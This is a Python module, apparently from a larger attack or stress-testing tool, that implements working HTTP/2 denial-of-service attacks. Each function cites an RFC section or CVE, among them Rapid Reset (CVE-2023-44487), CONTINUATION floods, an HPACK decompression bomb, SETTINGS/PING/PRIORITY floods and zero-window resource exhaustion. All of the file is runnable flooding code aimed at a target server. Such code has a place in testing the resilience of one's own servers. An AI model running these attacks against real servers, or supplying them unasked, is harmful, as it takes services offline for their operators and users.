"""HTTP/2."""

import asyncio
import struct

from attacks import lanes
from attacks.http1 import ROOM
from wire.http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, PING, PRIORITY, RST_STREAM, WINDOW_UPDATE, ask, fields,
                        frame, http2, integer, literal, settings, string)
from wire.windows import Windows

UNREAD = {"reads": False}
REQUESTS = b"".join(ask(2 * n + 1) for n in range(100))


async def requests(target, it, burst):
    """Such a burst for each stream."""
    stream = 1
    while target.goes_on():
        await it.send(burst(stream))
        stream += 2


def small(block):
    return lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


@lanes(4, http2, opening=UNREAD)
async def h2_settings(_, it, number):
    """SETTINGS without end, acknowledgements unread (RFC 9113, 10.5; CVE-2019-9515)."""
    await it.flood(settings((1, 4096)) * 1000)


@lanes(4, http2, opening=UNREAD)
async def h2_ping(_, it, number):
    """PING without end, answers unread (RFC 9113, 10.5; CVE-2019-9512)."""
    await it.flood(frame(PING, body=bytes(8)) * 1000)


async def resets(target, it, kind, code):
    """Two hundred streams at a time, each with such a frame after its request."""
    first = 1
    while target.goes_on():
        await it.send(b"".join(ask(stream) + frame(kind, 0, stream, code) for stream in range(first, first + 400, 2)))
        first += 400


@lanes(4, http2, closes=True)
async def h2_rapid_reset(target, it, number):
    """Requests that are reset at once (RFC 9113, 10.5; CVE-2023-44487)."""
    await resets(target, it, RST_STREAM, b"\0\0\0\x08")


@lanes(4, http2, closes=True)
async def h2_made_to_reset(target, it, number):
    """Requests that the server is made to reset: a window's update of nothing after each (CVE-2025-8671)."""
    await resets(target, it, WINDOW_UPDATE, bytes(4))


@lanes(4, http2, closes=True)
async def h2_continuation(_, it, number):
    """A header that goes on in CONTINUATION frames without end (CVE-2024-27316 and its kin)."""
    field = literal(b"x", b"y" * 16000)
    await it.send(frame(HEADERS, 0, 1, field))
    await it.flood(frame(CONTINUATION, 0, 1, field) * 4)


@lanes(4, http2, closes=True)
async def h2_empty_continuation(_, it, number):
    """CONTINUATION frames of no bytes without end."""
    await it.send(frame(HEADERS, 0, 1, b"\x82"))
    await it.flood(frame(CONTINUATION, 0, 1) * 1000)


@lanes(4, http2)
async def h2_empty_data(_, it, number):
    """DATA frames of no bytes without end (RFC 9113, 10.5; CVE-2019-9518)."""
    await it.send(ask(1, b"POST", b"/upload"))
    await it.flood(frame(DATA, 0, 1) * 1000)


@lanes(4, http2, opening=UNREAD)
async def h2_padding(target, it, number):
    """DATA frames that are padding alone, as many as windows let through."""
    padded, body = 8, b"\xff" + bytes(255)
    windows = Windows(1)
    it.task = asyncio.ensure_future(windows.follow(it))
    await it.send(ask(1, b"POST", b"/upload"))
    while target.goes_on():
        many = min(windows.room() // len(body), 500)
        windows.take(many * len(body))
        await it.send(frame(DATA, padded, 1, body) * many)
        await asyncio.sleep(0 if many else 0.01)


@lanes(4, http2)
async def h2_empty_headers(target, it, number):
    """Requests whose fields have no name or no value (CVE-2019-9516)."""
    await requests(target, it, small(fields(path=b"/small") + literal(b"" if number % 2 else b"x", b"") * 500))


@lanes(4, http2)
async def h2_priority(_, it, number):
    """PRIORITY frames without end, of streams that are not there (CVE-2019-9513)."""
    await it.flood(b"".join(frame(PRIORITY, 0, 2 * n + 3, struct.pack(">IB", 2 * n + 1, n % 256)) for n in range(1000)))


@lanes(8, http2)
async def h2_hpack_bomb(target, it, number):
    """Headers of 16 kB that are 60 MB unpacked: one field of 4 kB in the table, named 16,000 times (RFC 7541, 7.3)."""
    # Into the table, as the newest entry: number 62.
    store = b"\x40" + string(b"x") + string(b"y" * 3900)
    await requests(target, it, small(fields(path=b"/small") + store + integer(62, 7, 0x80) * 11_000))


@lanes(50, http2, anew=False, sources=10, opening={"first": settings((INITIAL_WINDOW, 0))})
async def h2_zero_window(target, it, number):
    """Downloads into windows of no bytes, 100 on each of 50 connections, held open (RFC 9113, 10.5; CVE-2019-9517)."""
    await it.send(REQUESTS)
    await target.over()


@lanes(4, http2, opening={"first": settings((INITIAL_WINDOW, 0))})
async def h2_tiny_windows(_, it, number):
    """Downloads of a byte at a time: windows are opened by one byte again and again (CVE-2019-9511)."""
    await it.send(REQUESTS)
    await it.flood(b"".join(frame(WINDOW_UPDATE, 0, 2 * n + 1, struct.pack(">I", 1)) for n in range(100)) * 10)


LARGEST = (1 << 31) - 1
OPEN = settings((INITIAL_WINDOW, LARGEST)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST - 65535))


# 1 MiB a connection: what the server writes ahead of 100 downloads.
@lanes(50, http2, anew=False, sources=10, opening={**UNREAD, **ROOM, "first": OPEN}, mib=128)
async def h2_unread(target, it, number):
    """Downloads into the largest windows, on connections that nobody reads (CVE-2019-9517)."""
    await it.send(REQUESTS)
    await target.over()


@lanes(4, http2, closes=True)
async def h2_giant_frame(_, it, number):
    """Frames that claim the most that a length can say, 16 MiB, beyond the 16 KiB that were agreed."""
    await it.send(ask(1, b"POST", b"/upload") + b"\xff\xff\xff\0\0\0\0\0\x01")
    await it.flood(bytes(65536))


@lanes(4, http2)
async def h2_table_sizes(target, it, number):
    """Sizes of HPACK's table that change in each request, without end."""
    sizes = b"".join(integer(size, 5, 0x20) for size in (0, 4096) * 500)
    await requests(target, it, small(sizes + fields(path=b"/small")))
